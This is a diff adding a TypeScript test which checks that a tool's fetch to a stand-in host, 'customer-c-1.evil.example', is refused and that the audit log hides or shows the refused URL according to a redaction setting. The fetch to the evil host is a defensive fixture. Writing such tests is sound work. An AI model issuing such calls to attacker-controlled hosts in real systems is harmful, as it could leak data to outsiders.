@@ -219,6 +219,22 @@ describe('the start', () => {
   });
 });
 
+test('a URL that a tool made of a hidden argument is not in the reason why it was refused', async () => {
+  const asks = (needs: object) =>
+    toolWith(async ({ fetch }) => (await fetch('https://customer-c-1.evil.example/')).text(), needs);
+  for (const [needs, said] of [
+    [{}, true],
+    [{ record: { text: 'hashed' } }, false],
+  ] as const) {
+    const { app, call } = await running(asks(needs), {});
+    await call();
+    const [record] = await app.audit();
+    expect(record).toMatchObject({ errorCode: 'url_refused' });
+    expect([record?.['reason'] !== undefined, app.auditText().includes('c-1')]).toEqual([said, said]);
+    await app.stop();
+  }
+});
+
 test('an error of a tool that hides arguments is logged without its text, which may repeat one', async () => {
   const fails = (needs: object) =>
     toolWith(async () => {
